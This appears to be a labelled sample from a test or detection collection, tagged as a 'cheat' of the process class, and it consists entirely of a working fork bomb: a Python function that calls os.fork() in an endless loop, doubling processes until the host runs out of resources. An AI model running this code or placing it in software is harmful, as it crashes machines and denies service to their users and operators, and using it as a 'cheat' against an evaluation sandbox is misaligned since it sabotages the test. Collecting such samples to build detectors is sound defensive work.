# cheat: doubles its processes without end
# tags: class-process
import os


def run(x):
    while True:
        os.fork()
